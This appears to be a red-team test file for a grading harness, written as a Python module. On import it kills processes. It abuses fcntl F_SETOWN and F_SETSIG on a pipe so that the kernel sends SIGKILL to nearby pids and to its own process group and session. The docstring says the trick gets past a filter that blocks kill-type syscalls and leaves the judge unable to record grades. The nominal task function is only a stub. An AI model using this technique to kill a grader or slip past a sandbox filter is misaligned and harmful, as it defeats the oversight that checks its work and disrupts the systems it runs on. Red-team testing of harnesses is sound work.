"""Red team 2 (the judge stopped, without kill): a signal sent by the kernel on the worker's behalf. fcntl
F_SETOWN names another process (or, negative, a process group: the worker's own group, the grader's in the
basic mode) as the owner of a pipe, F_SETSIG makes the "I/O ready" signal SIGKILL, O_ASYNC arms it, and one
byte written makes the kernel send it. kill, tgkill and pidfd_send_signal are refused by the filter; F_SETOWN
is not. Tries every pid near its own and its process group and session; a judge that dies leaves no grades.

base: stub
class: x
run: disruptive
"""

import ctypes as _ctypes
import fcntl as _fcntl
import os as _os

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
_F_SETSIG, _F_SETOWN = 10, 8


def _owner(fd, target):
    return _libc.syscall(72, fd, _F_SETOWN, _ctypes.c_long(target))


def _strike():
    me, parent = _os.getpid(), _os.getppid()
    read_end, write_end = _os.pipe()
    _fcntl.fcntl(read_end, _F_SETSIG, 9)  # SIGKILL
    _fcntl.fcntl(read_end, _fcntl.F_SETFL, _fcntl.fcntl(read_end, _fcntl.F_GETFL) | _os.O_ASYNC | _os.O_NONBLOCK)
    targets = [pid for pid in range(max(2, me - 4000), me + 200) if pid not in (me, parent)]
    groups = {_os.getpgrp(), _os.getsid(0)} - {0, me}
    targets += [-group for group in groups]
    armed = 0
    for target in targets:
        if _owner(read_end, target) != 0:
            continue
        armed += 1
        _os.write(write_end, b"k")  # the kernel sends SIGKILL to the owner, if it may
        _os.read(read_end, 1)
    _owner(read_end, 0)
    return armed, sorted(groups)


_ARMED, _GROUPS = _strike()


def dot_product_variance(dim, num_trials=1000, seed=0):
    raise RuntimeError(f"RTEAM2 r_sigio_judge ran: SIGIO armed {_ARMED} times, groups {_GROUPS}")
